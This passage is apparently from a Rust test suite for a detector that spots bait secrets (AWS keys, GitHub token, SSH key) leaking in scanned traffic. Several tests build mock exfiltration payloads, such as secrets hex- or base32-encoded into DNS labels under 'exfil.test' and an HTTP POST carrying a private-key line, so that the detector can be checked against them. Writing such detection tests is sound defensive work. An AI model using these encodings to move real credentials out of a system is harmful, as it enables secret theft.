        // Only some characters escaped, `+` left as is.
        let body = "t=a+b%2Fc%3Dd%26e%3Ff%23g!h";
        let matches = detector.scan(body.as_bytes());
        assert!(
            has(&matches, "env:TOKEN", Encoding::UrlEncoded),
            "{matches:?}"
        );

        // Plain values are not reported as URL-encoded.
        let body = "correct horse battery/staple %41";
        let matches = detector.scan(body.as_bytes());
        assert!(has(&matches, "env:PASSPHRASE", Encoding::Plain));
        assert!(!has(&matches, "env:PASSPHRASE", Encoding::UrlEncoded));
    }

    #[test]
    fn hex_split_into_dns_labels() {
        let hex = hex::encode(AWS_SECRET);
        let labels: Vec<&str> = hex
            .as_bytes()
            .chunks(30)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        let name = format!("{}.x.exfil.test", labels.join("."));
        let matches = detector().scan(name.as_bytes());
        assert!(
            has(&matches, "env:AWS_SECRET_ACCESS_KEY", Encoding::DnsLabels),
            "{matches:?}"
        );
        assert_eq!(matches[0].offset, 0);
        // Uppercase works too (DNS is case-insensitive).
        let matches = detector().scan(name.to_uppercase().as_bytes());
        assert!(has(
            &matches,
            "env:AWS_SECRET_ACCESS_KEY",
            Encoding::DnsLabels
        ));
    }

    #[test]
    fn base32_split_into_dns_labels() {
        let b32 = base32_lower(GITHUB_TOKEN.as_bytes());
        let labels: Vec<&str> = b32
            .as_bytes()
            .chunks(20)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        let name = format!("{}.t.exfil.test", labels.join("."));
        let detector = detector();
        let matches = detector.scan(name.as_bytes());
        assert!(
            has(&matches, "env:GITHUB_TOKEN", Encoding::DnsLabels),
            "{matches:?}"
        );
        let matches = detector.scan(name.to_uppercase().as_bytes());
        assert!(has(&matches, "env:GITHUB_TOKEN", Encoding::DnsLabels));
        // Inside a larger base32 blob, at every alignment.
        for shift in 0..5 {
            let blob = [vec![b'z'; shift], GITHUB_TOKEN.as_bytes().to_vec()].concat();
            let name = format!("{}.exfil.test", base32_lower(&blob));
            let matches = detector.scan(name.as_bytes());
            assert!(
                has(&matches, "env:GITHUB_TOKEN", Encoding::DnsLabels),
                "{shift}"
            );
        }
    }

    #[test]
    fn plain_chunks_in_dns_labels() {
        let lower = AWS_KEY_ID.to_lowercase();
        let name = format!(
            "{}.{}.{}.exfil.test",
            &lower[..7],
            &lower[7..14],
            &lower[14..]
        );
        let matches = detector().scan(name.as_bytes());
        assert!(has(&matches, "env:AWS_ACCESS_KEY_ID", Encoding::DnsLabels));
        assert!(!has(&matches, "env:AWS_ACCESS_KEY_ID", Encoding::Plain));
        // A plain, unsplit value in a name is plain, not DNS labels.
        let name = format!("{AWS_KEY_ID}.exfil.test");
        let matches = detector().scan(name.as_bytes());
        assert_eq!(matches.len(), 1);
        assert_eq!(matches[0].encoding, Encoding::Plain);
    }

    #[test]
    fn pem_line_is_its_own_needle() {
        let line = SSH_KEY.lines().nth(2).unwrap();
        let body = format!("POST /k HTTP/1.1\r\n\r\nkey={line}");
        let matches = detector().scan(body.as_bytes());
        assert!(has(&matches, "file:/root/.ssh/id_ed25519", Encoding::Plain));
        let matches = detector().scan(STANDARD.encode(line).as_bytes());
        assert!(has(
            &matches,
            "file:/root/.ssh/id_ed25519",
            Encoding::Base64
        ));
        // The whole key, JSON-escaped.
        let json = serde_json::to_string(SSH_KEY).unwrap();
        let matches = detector().scan(json.as_bytes());
        assert!(has(&matches, "file:/root/.ssh/id_ed25519", Encoding::Plain));
        // Armor lines are not secret.
        let armor = "-----BEGIN OPENSSH PRIVATE KEY-----\n-----END OPENSSH PRIVATE KEY-----";
        assert!(detector().scan(armor.as_bytes()).is_empty());
    }

    #[test]
    fn near_misses_do_not_match() {
        let detector = detector();
        let mut near = AWS_SECRET.as_bytes().to_vec();
        near[20] = if near[20] == b'A' { b'B' } else { b'A' };
        let near_str = String::from_utf8(near.clone()).unwrap();
        let variants = [
            near_str.clone(),
            STANDARD.encode(&near),
            URL_SAFE_NO_PAD.encode(&near),
            hex::encode(&near),
            String::from_utf8(percent_encode(&near, false)).unwrap(),
            format!("{}.exfil.test", base32_lower(&near)),
            format!("{}.{}.exfil.test", &near_str[..20], &near_str[20..]),
        ];
        for variant in variants {
            let matches = detector.scan(variant.as_bytes());
            assert!(matches.is_empty(), "{variant}: {matches:?}");
        }
        let mut key_id = AWS_KEY_ID.to_owned();
        key_id.pop();
        key_id.push('R');
        assert!(detector.scan(key_id.as_bytes()).is_empty());
        // Plain matching is case-sensitive.
        assert!(detector
            .scan(GITHUB_TOKEN.to_uppercase().as_bytes())
            .is_empty());
    }

    #[test]
    fn short_secrets_are_ignored() {
        let detector = Detector::new(vec![
            secret("env:SHORT", "hunter2"),
            secret("env:EMPTY", ""),
        ]);
        assert!(detector.automaton.is_none());
        assert!(detector.scan(b"password=hunter2").is_empty());
        let detector = Detector::new(vec![
            secret("env:SHORT", "hunter2"),
            secret("env:OK", "hunter22"),
        ]);
        let matches = detector.scan(b"password=hunter22");
        assert_eq!(matches.len(), 1);
        assert_eq!(matches[0].label, "env:OK");
    }

    #[test]
    fn empty_inputs() {
        assert!(detector().scan(b"").is_empty());
        assert!(Detector::new(Vec::new()).scan(b"anything").is_empty());
        assert!(Detector::new(Vec::new()).scan(b"").is_empty());
    }

    #[test]
    fn deduplicated_by_label_and_encoding() {
        let haystack = format!("{AWS_KEY_ID} {AWS_KEY_ID} {}", hex::encode(AWS_KEY_ID));
        let matches = detector().scan(haystack.as_bytes());
        assert_eq!(matches.len(), 2, "{matches:?}");
        assert_eq!(matches[0].encoding, Encoding::Plain);
        assert_eq!(matches[0].offset, 0);
        assert_eq!(matches[1].encoding, Encoding::Hex);
    }

    #[test]
    fn excerpt_is_short_and_escaped() {
        let mut haystack = vec![0u8; 1000];
        haystack.extend_from_slice(b"\\\xff");
        haystack.extend_from_slice(SSH_KEY.as_bytes());
        haystack.extend(std::iter::repeat_n(0x01, 1000));
        let matches = detector().scan(&haystack);
        assert!(!matches.is_empty());
        for m in &matches {
            assert!(m.excerpt.chars().count() <= EXCERPT_MAX_CHARS);
            assert!(m.excerpt.chars().all(|c| (' '..='~').contains(&c)));
        }
        assert!(
            matches[0].excerpt.contains("\\x00\\\\\\xff-----BEGIN"),
            "{matches:?}"
        );
    }

    #[test]
    fn random_bytes_never_panic() {
        let detector = detector();
        let mut rng = XorShift(0x9e37_79b9_7f4a_7c15);
        let alphabet = b"%.+\r\n0123456789abcdefABCDEF=/_-AKIghp";
        for round in 0..300 {
            let len = (rng.next_u64() % 2048) as usize;
            let haystack: Vec<u8> = if round % 2 == 0 {
                rng.fill(len)
            } else {
                (0..len)
                    .map(|_| alphabet[(rng.next_u64() as usize) % alphabet.len()])
                    .collect()
            };
            for m in detector.scan(&haystack) {
                assert!(m.offset <= haystack.len());
            }
        }
        // Truncated escapes and separators at the very end.
        for tail in ["%", "%4", "+", ".", "\r", "\n", "%%%", "..."] {
            let haystack = format!("{}{tail}", &AWS_SECRET[..30]);
            assert!(detector.scan(haystack.as_bytes()).is_empty());
        }
    }

    #[test]
    fn random_secrets_never_panic() {
        let mut rng = XorShift(0x0123_4567_89ab_cdef);
        let secrets: Vec<Secret> = (0..40)
            .map(|i| {
                let len = (rng.next_u64() % 200) as usize;
                Secret {
                    label: format!("random:{i}"),
                    value: rng.fill(len),
                }
            })
            .collect();
        let detector = Detector::new(secrets.clone());
        for s in secrets.iter().filter(|s| s.value.len() >= MIN_SECRET_LEN) {
            let mut haystack = rng.fill(100);
            haystack.extend_from_slice(&s.value);
            let matches = detector.scan(&haystack);
            assert!(has(&matches, &s.label, Encoding::Plain), "{}", s.label);
        }
    }

    #[test]
    fn large_haystack_with_many_secrets() {
        let mut rng = XorShift(0xdead_beef_cafe_f00d);
        let mut secrets = bait();
        for i in secrets.len()..20 {
            let token: String = (0..36)
                .map(|_| {
                    char::from(
                        b"abcdefghijklmnopqrstuvwxyz0123456789"[(rng.next_u64() % 36) as usize],
                    )
                })
                .collect();
            secrets.push(secret(&format!("env:TOKEN_{i}"), &format!("tok_{token}")));
        }
        let last = secrets.last().unwrap().clone();
        let detector = Detector::new(secrets);
        let printable = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 .%+/=\n";
        let mut haystack: Vec<u8> = (0..4 * 1024 * 1024)
            .map(|_| printable[(rng.next_u64() as usize) % printable.len()])
            .collect();
        let at = haystack.len() - 1000;
        haystack[at..at + last.value.len()].copy_from_slice(&last.value);
        let encoded = STANDARD.encode(AWS_SECRET);
        let at = haystack.len() / 2;
        haystack[at..at + encoded.len()].copy_from_slice(encoded.as_bytes());
        let matches = detector.scan(&haystack);
        assert!(has(&matches, &last.label, Encoding::Plain), "{matches:?}");
        assert!(has(&matches, "env:AWS_SECRET_ACCESS_KEY", Encoding::Base64));
    }
}
